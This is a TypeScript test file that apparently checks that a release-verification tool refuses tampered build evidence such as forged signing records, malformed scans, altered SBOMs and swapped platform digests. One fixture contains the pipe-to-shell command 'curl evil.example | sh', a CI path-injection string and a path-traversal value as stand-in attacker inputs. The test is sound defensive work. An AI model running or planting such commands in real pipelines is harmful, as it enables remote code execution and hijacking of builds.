/** What runs in the build job writes the files of its evidence, and says which evidence is its own. */
import { digestOf } from '@sealift/core/image/digest';
import { type Attack, inert, play, refused } from '../attack.ts';
import { release } from '../scenes.ts';
import type { Moment, ReleaseWorld } from '../world.ts';

type Case = Attack<ReleaseWorld, Moment>;

const files = (tries: string, change: Readonly<Record<string, string>>, outcome: Case['outcome']): Case => ({
  tries,
  against: 'build',
  does: (world) => {
    world.build.files = change;
  },
  outcome,
});

const evidence: readonly Case[] = [
  files(
    'writes a record of its own release',
    { 'record.json': '{}' },
    refused('record/malformed', /record\.json/),
  ),
  files(
    'writes who signed',
    {
      'sign.json': JSON.stringify({
        signer: { identity: 'x', issuer: 'x', sourceRepository: 'a/b', sourceRef: 'refs/heads/main' },
        entries: [],
      }),
    },
    refused('evidence/not-planned', /a build makes no sign\.json/),
  ),
  files('writes a scan that is no JSON', { 'scan.json': '{' }, refused('record/malformed', /scan\.json/)),
  files(
    'changes the SBOM after it was made',
    { 'sbom.spdx.json': '{"spdxVersion":"SPDX-2.3","packages":[]}' },
    refused('evidence/untrusted', /was changed after it was written/),
  ),
  files(
    'writes a second scan beside the first',
    { 'scan.linux-amd64.json': '{}' },
    refused('record/malformed', /scan/),
  ),
  files(
    'leaves files beside the evidence',
    { 'notes.txt': '::add-path::/tmp/evil', 'run.sh': 'curl evil.example | sh' },
    inert('released', { says: /notes\.txt/ }),
  ),
  {
    tries: 'says which evidence is that of another platform',
    against: 'evidence',
    does: (world) => {
      const { 'evidence-0': first = '', 'evidence-1': second = '' } = world.outputs;
      world.outputs = { 'evidence-0': second, 'evidence-1': first };
    },
    outcome: refused('evidence/not-planned', /is for linux\/arm64/),
  },
  {
    tries: 'says nothing of its evidence',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-1'] = '';
    },
    outcome: refused('evidence/unbound', /linux\/arm64/),
  },
  {
    tries: 'says that two platforms have the same evidence',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-1'] = world.outputs['evidence-0'] ?? '';
    },
    outcome: refused('evidence/bad-binding', /the same evidence/),
  },
  {
    tries: 'says that a platform has evidence that nobody planned',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-2'] = digestOf('more');
    },
    outcome: refused('evidence/bad-binding', /nothing is planned/),
  },
  {
    tries: 'writes no digest into its output',
    against: 'evidence',
    does: (world) => {
      world.outputs['evidence-0'] = '../../x';
    },
    outcome: refused('evidence/bad-binding', /no sha256 digest/),
  },
];

play('base image, and what the Dockerfile downloads', release, evidence);
